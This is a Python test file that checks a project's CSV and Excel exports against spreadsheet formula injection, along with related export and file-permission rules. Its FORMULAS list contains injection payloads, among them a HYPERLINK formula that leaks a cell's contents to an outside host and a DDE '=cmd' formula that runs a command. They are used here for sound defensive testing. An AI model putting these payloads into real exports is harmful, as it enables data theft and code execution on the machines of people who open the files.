"""What people open in Excel or LibreOffice runs nothing, and what they send back is what was sent."""

import ast
import csv
import io
import os
import re
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pandas
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from auyl import exports
from auyl.errors import AuylError
from auyl.intake.quarantine import export
from auyl.settings import REPOSITORY

FORMULAS = (
    '=HYPERLINK("http://x.kz/?"&A1,"жми")', "=cmd|' /C calc'!A0", "+7 701 123 45 67", "-5", "@SUM(1)", "\t=1", "\r=1",
    "\n=1", " =1", "\u00a0=1", "'=1", "''=1", "' =1", "\t", "\rx", "'\tx", "+", "-", "@", "=", "＝1+1", "＠x",
    "x;=1", "x,=cmd|a", "x\t=1", "x|@y", "x\n=1", 'x";=1', "x;'=1", "x; '=1", ";;=1", "x,\n,=1",
)  # fmt: skip
HARMLESS = ("", "5", "О'Коннор", "'", "''", "''x", "с. Шелек, 5", "a=b", "a-b;c", "0012", "1e5", "https://x.kz", "# x")
SIGNS = "=+-@＝＋－＠"
texts = st.text(alphabet=st.sampled_from("=+-@'\" \t\r\n;,|＝＠5xя\0"), max_size=9)


@given(texts)
def test_what_was_written_is_read_back_and_nothing_else_is_taken_away(text: str) -> None:
    written = exports.as_text(text)
    assert exports.as_sent(written) == text
    if written == text:
        assert exports.as_sent(text) == text


@given(st.lists(texts, min_size=2, max_size=4), st.sampled_from(";,\t|"), st.sampled_from(";,\t|"))
def test_no_cell_is_a_formula_whatever_delimiter_a_program_takes(row: list[str], ours: str, theirs: str) -> None:
    content = exports.to_csv([f"c{n}" for n in range(len(row))], [row], ours).decode("utf-8-sig")
    assert next(iter(list(csv.reader(io.StringIO(content, newline=""), delimiter=ours))[1:])) == [
        exports.as_text(cell) for cell in row
    ]
    for line in re.split("[\r\n]", content):
        for cell in line.split(theirs):
            shown = cell.lstrip(" \t\r\n\0\u00a0\x0b\x0c").lstrip('"').lstrip(" \t\r\n\0")
            assert not shown or shown[0] not in SIGNS, (content, cell)


def test_each_formula_is_quiet_and_what_is_harmless_stays_as_it_is() -> None:
    assert [text for text in FORMULAS if exports.as_text(text) == text] == []
    assert [text for text in FORMULAS if exports.as_sent(exports.as_text(text)) != text] == []
    assert [text for text in HARMLESS if exports.as_text(text) != text or exports.as_sent(text) != text] == []
    assert exports.as_text("+7 701") == "'+7 701" and exports.as_text("'=1") == "''=1"


def test_a_workbook_has_text_as_text_and_neither_formulas_nor_links() -> None:
    cells = [*FORMULAS, *HARMLESS, "{=1}", "mailto:x@y.kz", "internal:A1", "#N/A", "TRUE", "31.12.2026", "<b>", None]
    rows = [[cell, 7, Decimal("2.50"), date(2026, 10, 1)] for cell in cells]
    content = exports.to_xlsx(["=1", "число", "сумма", "день"], rows, "Лист")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert not re.search(r"<f[ >/]|<hyperlink", sheet) and "hyperlink" not in parts["xl/_rels/workbook.xml.rels"]
    assert not [name for name in parts if name.startswith("xl/worksheets/_rels")]
    kinds = re.findall(r'<c r="A\d+"[^>]* t="(\w+)"', sheet)
    assert kinds == ["s"] * (1 + sum(cell is not None for cell in cells))
    read = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python(skip_empty_area=False)
    assert [row[0] for row in read] == ["=1", *(cell or "" for cell in cells)]
    assert read[1][1:] == [7, 2.5, date(2026, 10, 1)]


def test_what_excel_cannot_hold_is_refused_in_words() -> None:
    with pytest.raises(AuylError, match=r"row 2, column 1: expected at most 32,767 signs"):
        exports.to_xlsx(["a"], [["я" * 32_768]], "x")
    with pytest.raises(AuylError, match="expected less than 1,048,576 rows"):
        exports.to_xlsx(["a"], [[None]] * 1_048_576, "x")


# What no person opens: an extract of a database on its way to landing, rows on their way into PostgreSQL.
MACHINES = {
    "auyl/sources/sql.py": {"csv.writer"},
    "auyl/store/copy.py": {"format csv"},
    "auyl/keys/stored.py": {"format csv"},
}
WRITERS = re.compile(
    r"csv\.writer|csv\.DictWriter|\bto_csv\(|\bto_excel\(|ExcelWriter|\bwrite_csv\(.*pyarrow|write_excel|xlsxwriter"
    r"|openpyxl|xlwt|format csv"
)


def test_tables_for_people_are_written_in_one_place() -> None:
    found: dict[str, set[str]] = {}
    for folder in ("auyl", "auyl_airflow", "dags", "plugins"):
        for path in (REPOSITORY / folder).rglob("*.py"):
            name = path.relative_to(REPOSITORY).as_posix()
            tree = ast.parse(path.read_text("utf-8"))
            code = re.sub(r"exports\.to_csv\(", "", ast.unparse(_without_docstrings(tree)))
            if used := set(WRITERS.findall(code)):
                found[name] = used
    found.pop("auyl/exports.py")
    assert found == MACHINES


def _without_docstrings(tree: ast.Module) -> ast.Module:
    for node in ast.walk(tree):
        if isinstance(node, ast.Module | ast.ClassDef | ast.FunctionDef) and ast.get_docstring(node) is not None:
            node.body = node.body[1:] or [ast.Pass()]
    return tree


def test_sql_writes_no_delimited_text_either() -> None:
    files: list[Path] = [*(REPOSITORY / "include").rglob("*.sql"), *(REPOSITORY / "auyl").rglob("*.sql")]
    assert files and [path.name for path in files if "format csv" in path.read_text("utf-8").casefold()] == []


def test_an_export_is_closed_to_others_and_leaves_a_device_as_it_is(tmp_path: Path) -> None:
    frame = pandas.DataFrame({"a": ["1"]})
    (tmp_path / "rows.csv").touch(mode=0o644)
    export(frame, tmp_path / "rows.csv")
    assert (tmp_path / "rows.csv").stat().st_mode & 0o777 == 0o600

    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    pipe.chmod(0o666)
    reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    try:
        export(frame, pipe)
        assert os.read(reader, 100) == (tmp_path / "rows.csv").read_bytes()
    finally:
        os.close(reader)
    assert pipe.stat().st_mode & 0o777 == 0o666
